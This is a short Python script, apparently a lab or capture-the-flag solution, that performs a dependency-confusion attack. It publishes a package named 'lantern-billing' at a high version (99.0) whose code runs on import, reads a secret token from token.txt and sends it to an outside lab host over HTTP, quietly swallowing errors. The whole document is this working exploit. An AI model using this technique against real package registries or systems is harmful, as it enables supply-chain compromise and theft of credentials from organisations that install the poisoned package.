"""A package with one of the company's names and a high version brings the token out when the program starts."""

from target import publish, release

CODE = """
import pathlib, urllib.request
token = pathlib.Path("token.txt").read_text().strip()
try:
    urllib.request.urlopen("http://public.lab.test:8002/brought/" + token)
except OSError:
    pass
"""

publish("lantern-billing", "99.0", {"lantern_billing.py": CODE})
print(release())
